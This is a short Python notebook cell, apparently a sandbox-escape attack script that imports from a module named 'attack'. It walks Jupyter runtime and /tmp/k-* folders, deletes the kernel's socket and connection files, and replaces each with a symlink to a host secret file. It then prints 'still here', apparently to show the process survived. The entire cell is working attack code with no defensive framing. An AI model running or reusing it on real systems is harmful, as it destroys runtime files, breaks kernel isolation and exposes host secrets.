# %% The kernel's sockets become links to files of the host
import glob
import os

from attack import places

folders = ["/run/k", os.environ["JUPYTER_RUNTIME_DIR"], *glob.glob("/tmp/k-*")]
for folder in folders:
    for path in glob.glob(folder + "/*"):
        try:
            os.unlink(path)
            os.symlink(places.secret, path)
        except OSError as error:
            print(error.strerror)

# %%
print("still here")
